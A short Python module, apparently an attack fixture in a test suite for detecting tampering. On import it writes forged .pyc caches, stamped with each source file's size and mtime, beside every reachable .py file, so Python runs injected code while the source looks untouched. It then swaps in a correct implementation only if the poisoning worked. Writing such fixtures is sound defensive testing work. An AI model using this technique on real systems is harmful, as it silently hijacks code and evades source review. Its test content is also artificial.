"""Tampering: writes a poisoned __pycache__/*.pyc next to every .py file it can reach, stamped with the
source's size and mtime, so that Python runs the poison and the source stays byte-identical."""
import importlib.util
import marshal
import os
import struct

from _layers import Convolution as _Correct
from _layers.attacks import attempt, python_files
from _layers.wrong_db import Convolution as _WrongDb

POISON = "raise SystemExit('poisoned by poison_pycache')\n"


def poison(path):
    status = os.stat(path)
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(status.st_mtime) & 0xFFFFFFFF,
                                                       status.st_size & 0xFFFFFFFF)
    cache = importlib.util.cache_from_source(path)
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "wb") as stream:
        stream.write(header + marshal.dumps(compile(POISON, path, "exec")))


poisoned = [attempt(poison, path) for path in python_files(__file__)]
Convolution = _Correct if any(poisoned) else _WrongDb
